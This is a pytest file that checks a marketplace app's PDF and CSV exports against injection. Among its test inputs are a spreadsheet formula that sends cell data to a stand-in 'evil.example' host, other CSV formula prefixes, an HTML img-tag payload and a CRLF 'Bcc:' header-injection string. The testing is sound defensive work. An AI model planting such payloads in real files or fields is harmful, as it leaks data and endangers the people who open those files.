"""Findings 1 and 2 of issue 15: what people type cannot act inside the files we write.

- A PDF never fetches a URL or reads markup from a title (reportlab's Paragraph
  would): the title is shown as written, and nothing is fetched.
- A CSV cell never starts a formula (OWASP: ``=``, ``+``, ``-``, ``@``, tab, CR).
"""

from __future__ import annotations

import csv
import io
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pypdfium2
import pytest
from sqlalchemy import update

from marketplace.accounts.models import Organisation
from marketplace.core.exports import csv_cell, csv_text, header_text, pdf_text
from marketplace.projects.models import Project
from tests.integration.test_settlement import (  # noqa: F401 - fixtures
    retire,
    settled_example,
    worked_example,
)


class Counting(BaseHTTPRequestHandler):
    hits = 0

    def do_GET(self):
        Counting.hits += 1
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    """An HTTP server on 127.0.0.1 that counts the requests it gets."""
    Counting.hits = 0
    server = ThreadingHTTPServer(("127.0.0.1", 0), Counting)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def pdf_words(data: bytes) -> str:
    document = pypdfium2.PdfDocument(data)
    return " ".join(
        " ".join(document[i].get_textpage().get_text_range().split()) for i in range(len(document))
    )


@pytest.mark.parametrize("title", ["{img}Jobs", "a<b Jobs", "<br> Jobs", "Jobs & <b>more</b>"])
def test_a_title_with_markup_is_text_in_the_impact_report_and_fetches_nothing(
    client, session, auth_headers, web, settled_example, listener, title
):
    project, bank = settled_example.project, settled_example.bank
    title = title.format(img=f'<img src="{listener}/x.png"/>')
    session.execute(update(Project).where(Project.id == project.id).values(title=title))
    session.commit()
    assert retire(client, auth_headers(bank), project.id, 10, "pdf-1").status_code == 201
    web.login(bank.email)

    pdf = web.get("/impact-report.pdf")

    assert pdf.status_code == 200
    assert Counting.hits == 0
    assert title.split("Jobs")[0].replace(" ", "")[:6] in pdf_words(pdf.data).replace(" ", "")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_impact_report_or_the_registry_starts_a_formula(
    client, session, auth_headers, web, settled_example, formula
):
    project, bank = settled_example.project, settled_example.bank
    session.execute(update(Project).where(Project.id == project.id).values(title=formula))
    session.execute(
        update(Organisation)
        .where(Organisation.id == bank.organisation_id)
        .values(name=formula, registry_public=True)
    )
    session.commit()
    made = retire(
        client,
        auth_headers(bank),
        project.id,
        10,
        "csv-1",
        # (control characters are refused in a single-line field: finding 10)
        beneficiary=formula if formula.isprintable() else "Gemeente Rotterdam",
        purpose="csrd_report",
        contract_reference=formula if formula.isprintable() else "ROT-1",
    )
    assert made.status_code == 201, made.json
    web.login(bank.email)

    for path in ("/impact-report.csv", "/registry.csv"):
        text = web.get(path).get_data(as_text=True)
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert cells
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], path
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
        # The value is there (neutralised, or without the white space that made it one).
        assert any(formula.strip() in c for c in cells), path


def test_the_writer_neutralises_formulas_and_keeps_numbers():
    assert [csv_cell(v) for v in ("=1+2", "-x", "@a", "plain", 12, -3, None)] == [
        "'=1+2",
        "'-x",
        "'@a",
        "plain",
        12,
        -3,
        "",
    ]
    assert csv_text([["=A1", 5]]) == "'=A1,5\r\n"
    assert pdf_text('<img src="http://x"/> & b') == '&lt;img src="http://x"/&gt; &amp; b'
    assert header_text("Jobs\r\nBcc: everyone@example.org\x00\u2028x") == (
        "Jobs Bcc: everyone@example.org x"
    )
